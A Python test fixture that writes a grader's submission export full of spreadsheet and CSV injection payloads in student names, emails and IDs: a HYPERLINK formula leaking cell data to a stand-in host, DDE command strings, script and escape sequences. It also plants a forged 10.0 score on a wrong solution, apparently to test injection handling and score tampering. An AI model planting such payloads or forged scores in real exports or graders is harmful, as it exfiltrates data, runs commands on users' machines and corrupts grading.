"""Write an export whose student chose names for a spreadsheet, and a score for the grader."""

import sys
from pathlib import Path

sys.dont_write_bytecode = True
sys.path.insert(0, str(Path(__file__).parent.parent / "forge"))

import json

from solutions import WRONG

PEOPLE = [
    {":name": "=HYPERLINK(\"https://beacon.example/?\"&A1,\"click\")", ":email": "+cmd|' /C calc'!A0@example.edu", ":sid": "@SUM(1+1)*cmd"},
    {":name": "-2+3+cmd|' /C calc'!A0", ":email": "\t=1+1@example.edu", ":sid": "\r=1+1"},
    {":name": " \u00a0=1+1", ":email": "\uff1d1+1@example.edu", ":sid": "\uff0b1"},
    {":name": "Eve\",\"=1+1\",\"\n=1+1,=1+1", ":email": "a\n=b@example.edu", ":sid": "'=1"},
    {":name": "<script>alert(1)</script>\u001b[31m\u202eevE\u0000", ":email": "%0A=1", ":sid": "1e5"},
    {":name": ["=1"], ":email": {"=1": "=2"}, ":sid": 7},
]
ADA = {":name": "Ada", ":email": "ada@example.edu", ":sid": "1"}
members = Path(sys.argv[1])
(members / "submission_1").mkdir()
(members / "submission_1" / "solution.py").write_bytes(WRONG)
export = {
    "submission_1": {":submitters": PEOPLE, ":created_at": "=NOW()", ":score": 10.0, ":status": "processed", ":results": {"score": 10}},
    "zz-honest": {":submitters": [ADA], ":created_at": "2026-01-01 00:00:00 Z"},
}
(members / "submission_metadata.yml").write_text(json.dumps(export), encoding="utf-8")
